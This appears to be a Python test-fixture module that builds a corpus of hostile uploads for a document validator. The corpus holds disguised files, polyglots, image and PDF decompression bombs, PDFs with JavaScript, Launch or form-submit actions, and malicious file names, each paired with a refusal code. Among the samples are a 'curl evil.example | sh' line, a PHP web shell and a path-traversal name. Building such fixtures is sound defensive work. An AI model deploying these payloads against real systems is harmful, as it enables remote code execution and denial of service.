"""Documents: good ones, and files that mean harm, each built by code, with the reason for which it must be refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageDraw

from console.lib.documents import BYTES_MAX, Code

HTML = b"<html><body><script>fetch('/people/')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$"


@dataclass(frozen=True)
class Hostile:
    name: str
    code: Code
    data: Callable[[], bytes]


CORPUS: dict[str, Hostile] = {}


def refused(name: str, code: Code) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def keep(build: Callable[[], bytes]) -> Callable[[], bytes]:
        CORPUS[build.__name__] = Hostile(name, code, build)
        return build

    return keep


def put(title: str, name: str, code: Code, data: bytes) -> None:
    CORPUS[title] = Hostile(name, code, lambda: data)


# Good ones, of which most hostile ones are made.


def drawing(size: tuple[int, int] = (600, 400)) -> Image.Image:
    image = Image.new("RGB", size, "white")
    pen = ImageDraw.Draw(image)
    pen.ellipse((40, 40, 200, 200), outline="#c00000", width=8)
    pen.text((60, 240), "Business licence 91330106MA2CEXAMPL", fill="black")
    return image


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(**options: object) -> bytes:
    return encoded(drawing(), "JPEG", quality=85, **options)


def png() -> bytes:
    return encoded(drawing(), "PNG")


def gif() -> bytes:
    return encoded(drawing().quantize(32), "GIF")


def raw_pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """The bytes of a PDF with these objects, numbered from 1, and a right table of contents."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    starts = []
    for number, body in enumerate(objects, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % start for start in starts)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table)
    return bytes(out)


def pdf(*, root: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (), pages: int = 1) -> bytes:
    """A letter of one page; `root` and `page` go into their dictionaries; the first of `more` is object 5."""
    text = b"BT /F1 18 Tf 72 700 Td (Letter of attorney) Tj ET"
    sheet = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> %s >>" % page
    )
    kids = b" ".join([b"3 0 R", *(b"%d 0 R" % (5 + len(more) + i) for i in range(pages - 1))])
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        sheet,
        stream(text),
        *more,
        *([sheet] * (pages - 1)),
    )


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def with_pikepdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        change(made)
        made.save(out, **options)
    return out.getvalue()


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
    return out.getvalue()


def packed(byte: bytes, times: int) -> bytes:
    """So many of one byte, compressed without holding them."""
    packer, part = zlib.compressobj(9), byte * 1_000_000
    whole = b"".join(packer.compress(part) for _ in range(times // len(part)))
    return whole + packer.compress(byte * (times % len(part))) + packer.flush()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def raw_png(width: int, height: int, *between: bytes) -> bytes:
    """A black PNG with these chunks before its pixels; small, however large the picture is."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = packed(b"\x00", (width + 1) * height)
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(between) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


# Not what the name says.

put("html_as_jpg", "licence.jpg", Code.NOT_A_DOCUMENT, HTML)
put("svg_as_png", "licence.png", Code.NOT_A_DOCUMENT, SVG)
put("script_as_gif", "licence.gif", Code.NOT_A_DOCUMENT, b"#!/bin/sh\ncurl evil.example | sh\n")
put("php_as_gif", "licence.gif", Code.NOT_A_DOCUMENT, b"<?php system($_GET['c']); ?>")
put("exe_as_pdf", "letter.pdf", Code.NOT_A_DOCUMENT, EXE)
put("eicar_as_pdf", "letter.pdf", Code.NOT_A_DOCUMENT, EICAR)
put("zip_as_pdf", "letter.pdf", Code.NOT_A_DOCUMENT, archive())
put("heic_as_jpg", "photo.jpg", Code.NOT_A_DOCUMENT, b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 99)
for _kind in ("BMP", "TIFF", "WEBP", "ICO", "AVIF"):
    put(f"{_kind.lower()}_as_png", "licence.png", Code.NOT_A_DOCUMENT, encoded(drawing((99, 99)), _kind))
put("jpeg_named_png", "licence.png", Code.OTHER_KIND, jpeg())
put("pdf_named_jpg", "licence.jpg", Code.OTHER_KIND, pdf())
put("zero_bytes", "licence.jpg", Code.EMPTY, b"")
put("one_byte_too_many", "licence.jpg", Code.TOO_BIG, jpeg().ljust(BYTES_MAX + 1, b"\x00"))
put("only_a_magic_number", "licence.png", Code.DAMAGED, png()[:8])

# Two things at once.

put("gifar", "licence.gif", Code.MIXED, gif() + archive())
put("jpeg_and_zip", "licence.jpg", Code.MIXED, jpeg() + archive())
put("jpeg_and_html", "licence.jpg", Code.MIXED, jpeg(comment=HTML))
put("gif_and_php", "licence.gif", Code.MIXED, gif() + b"<?php system($_GET['c']); ?>")
put("png_and_pdf", "licence.png", Code.MIXED, png() + pdf())
put("pdf_and_html_behind", "letter.pdf", Code.MIXED, pdf() + HTML)
put("pdf_and_html_before", "letter.pdf", Code.MIXED, b"%PDF-1.7\n%" + HTML + b"\n" + pdf())
put("html_before_pdf", "letter.pdf", Code.NOT_A_DOCUMENT, HTML + pdf())
put("pdf_and_zip", "letter.pdf", Code.MIXED, pdf() + archive())

# Pictures that are damaged, or unpack to far too much.

put("jpeg_cut", "licence.jpg", Code.DAMAGED, jpeg()[:-3000])
put("gif_huge_frame", "licence.gif", Code.TOO_MANY_PIXELS, gif().replace(
    struct.pack("<HHHH", 0, 0, 600, 400), struct.pack("<HHHH", 0, 0, 65_535, 65_535), 1
))  # fmt: skip
put("gif_cut", "licence.gif", Code.DAMAGED, gif()[: len(gif()) // 2])
put("png_cut", "licence.png", Code.DAMAGED, png()[:-500])


@refused("licence.png", Code.TOO_MANY_PIXELS)
def png_bomb() -> bytes:
    return raw_png(30_000, 30_000)


@refused("licence.jpg", Code.TOO_MANY_PIXELS)
def jpeg_bomb() -> bytes:
    """A small one whose header says 65,500 x 65,500."""
    data = jpeg()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", 65_500, 65_500) + data[at + 4 :]


@refused("licence.png", Code.DAMAGED)
def png_with_a_lying_header() -> bytes:
    """Says twice the width, with a right checksum; the rows no longer fit."""
    data = png()
    header = bytearray(data[16:29])
    header[:4] = struct.pack(">I", 1_200)
    return data[:8] + chunk(b"IHDR", bytes(header)) + data[33:]


@refused("licence.gif", Code.ANIMATED)
def gif_with_thousands_of_frames() -> bytes:
    one = encoded(Image.new("P", (8, 8)), "GIF")
    frame = one[one.index(b",") : -1]
    return one[:-1] + frame * 20_000 + b";"


@refused("licence.png", Code.ANIMATED)
def animated_png() -> bytes:
    frames = [Image.new("L", (8, 8), i % 256) for i in range(500)]
    return encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])


@refused("licence.png", Code.BOMB)
def png_text_bomb() -> bytes:
    return raw_png(8, 8, chunk(b"zTXt", b"Comment\x00\x00" + packed(b"x", 300 << 20)))


@refused("licence.png", Code.BOMB)
def png_profile_bomb() -> bytes:
    return raw_png(8, 8, chunk(b"iCCP", b"icc\x00\x00" + packed(b"x", 300 << 20)))


@refused("licence.jpg", Code.TOO_SLOW)
def jpeg_of_a_thousand_scans() -> bytes:
    """A progressive one of 49 million pixels whose last scan is repeated until it keeps a processor busy."""
    data = encoded(Image.new("L", (7_000, 7_000), 200), "JPEG", progressive=True)
    scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + scan * ((BYTES_MAX - len(data)) // len(scan)) + b"\xff\xd9"


# PDFs that act, hide or refuse to be looked at.

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_ACTIVE = {
    "pdf_script_of_names": pdf(root=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % JS),
    "pdf_open_action": pdf(root=b"/OpenAction " + JS),
    "pdf_open_address": pdf(root=b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
    "pdf_additional_action": pdf(page=b"/AA << /O << /S /Named /N /Print >> >>"),
    "pdf_launch": pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]"),
    "pdf_submit_to_an_address": pdf(
        page=b"/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]"
    ),
    "pdf_import_data": pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /ImportData /F (x) >> >>]"),
    "pdf_other_file": pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil/x) >> >>]"),
    "pdf_rich_media": pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
    "pdf_xfa": pdf(root=b"/AcroForm << /Fields [] /XFA 5 0 R >>", more=(stream(b"<xdp/>"),)),
    "pdf_script_under_an_escaped_name": pdf(root=b"/OpenAction [3 0 R /Fit] /Foo << /S /#4aavaScript >>"),
    "pdf_script_after_an_honest_action": pdf(
        page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next [%s] >> >>]" % JS
    ),
    "pdf_script_that_no_page_uses": pdf(more=(JS,)),
    "pdf_data_from_elsewhere": pdf(more=(stream(b"", b"/F (//evil/share)"),)),
    "pdf_page_from_elsewhere": pdf(
        more=(stream(b"q Q", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil/share) /Page 0 >>"),)
    ),
    "pdf_action_of_a_field": pdf(
        root=b"/AcroForm << /Fields [5 0 R] >>", more=(b"<< /FT /Tx /T (a) /AA << /K %s >> >>" % JS,)
    ),
}
for _title, _data in _ACTIVE.items():
    put(_title, "letter.pdf", Code.ACTIVE, _data)
put("pdf_cut", "letter.pdf", Code.DAMAGED, pdf()[: len(pdf()) * 2 // 3])
put("pdf_only_a_head", "letter.pdf", Code.DAMAGED, b"%PDF-1.7\n")
put("pdf_21_pages", "letter.pdf", Code.TOO_MANY_PAGES, pdf(pages=21))
put(
    "pdf_no_pages",
    "letter.pdf",
    Code.NO_PAGES,
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
)
put("pdf_pages_in_a_circle", "letter.pdf", Code.DAMAGED, raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
))  # fmt: skip
put("pdf_picture_bomb", "letter.pdf", Code.BOMB, pdf(
    more=(stream(b"", b"/Subtype /Image /Width 65535 /Height 65535 /Filter /JBIG2Decode"),)
))  # fmt: skip


@refused("letter.pdf", Code.ACTIVE)
def pdf_script_in_an_object_stream() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Names = Dictionary(
            JavaScript=made.make_indirect(Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS="x")])))
        )

    data = with_pikepdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in data
    return data


@refused("letter.pdf", Code.ATTACHMENT)
def pdf_with_an_attachment() -> bytes:
    return with_pikepdf(lambda made: made.attachments.__setitem__("evil.exe", EXE))


@refused("letter.pdf", Code.ENCRYPTED)
def pdf_with_a_password() -> bytes:
    return with_pikepdf(lambda made: None, encryption=pikepdf.Encryption(owner="o", user="u"))


@refused("letter.pdf", Code.ENCRYPTED)
def pdf_with_rights() -> bytes:
    return with_pikepdf(lambda made: None, encryption=pikepdf.Encryption(owner="o", user=""))


@refused("letter.pdf", Code.BOMB)
def pdf_stream_bomb() -> bytes:
    return pdf(more=(stream(packed(b"\x00", 1 << 30), b"/Filter /FlateDecode"),))


@refused("letter.pdf", Code.BOMB)
def pdf_stream_bomb_in_parts() -> bytes:
    part = stream(packed(b"\x00", 90 << 20), b"/Filter /FlateDecode")
    return pdf(more=(part,) * 5)


@refused("letter.pdf", Code.BOMB)
def pdf_stream_bomb_around_a_picture() -> bytes:
    """Unpacked by viewers only, before they see that it is no JPEG."""
    entries = b"/Subtype /Image /Width 9 /Height 9 /Filter [/FlateDecode /DCTDecode]"
    return pdf(more=(stream(packed(b"\x00", 1 << 30), entries),))


@refused("letter.pdf", Code.BOMB)
def pdf_object_bomb() -> bytes:
    """Three million dictionaries in 12 KB: an array in an object stream (ISO 32000-2, 7.5.7 and 7.5.8)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Foo 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        stream(
            zlib.compress(b"5 0 [" + b"<<>>" * 3_000_000 + b"]", 9),
            b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        ),
    ]
    out = bytearray(b"%PDF-1.7\n")
    table = [(0, 0, 65_535)]
    for number, body in enumerate(objects, 1):
        table.append((1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table += [(2, 4, 0), (1, start, 0)]
    rows = b"".join(struct.pack(">BIH", *row) for row in table)
    out += b"6 0 obj\n%s\nendobj\n" % stream(rows, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


# What a file may not be called. The content is right where there is one.

NAMES = {
    "business licence.jpg": Code.NAME_SPACE,
    "business\u3000licence.jpg": Code.NAME_SPACE,
    **{f"a{sign}b.jpg": Code.NAME_SIGN for sign in "\"#'$%&*/\\|<>{}[];?!"},
    "x" * 61 + ".jpg": Code.NAME_LONG,
    "../../etc/passwd.jpg": Code.NAME_SIGN,
    "..jpg": Code.NAME_DOT,
    "a..jpg": Code.NAME_DOT,
    ".htaccess.jpg": Code.NAME_DOT,
    "licence\x00.jpg": Code.NAME_HIDDEN,
    "licence\n.jpg": Code.NAME_HIDDEN,
    "licence\u202egpj.jpg": Code.NAME_HIDDEN,
    "licence\u200b.jpg": Code.NAME_HIDDEN,
    **{f"licence{blank}.jpg": Code.NAME_HIDDEN for blank in "\u034f\u115f\u2800\u3164\ufe0f\uffa0"},
    "licence.php.jpg": Code.NAME_DOUBLE,
    "licence.PDF.jpg": Code.NAME_DOUBLE,
    "licence.pdf.exe": Code.EXTENSION,
    "licence.jpg.": Code.EXTENSION,
    "licence.jpe": Code.EXTENSION,
    "licence": Code.EXTENSION,
    "": Code.EXTENSION,
}
GOOD_NAMES = ["营业执照.jpg", "Licence_2026-11.JPG", "scan.2026.11.22.jpeg", "x" * 60 + ".jpg", "é(1)+@~^=.jpg"]
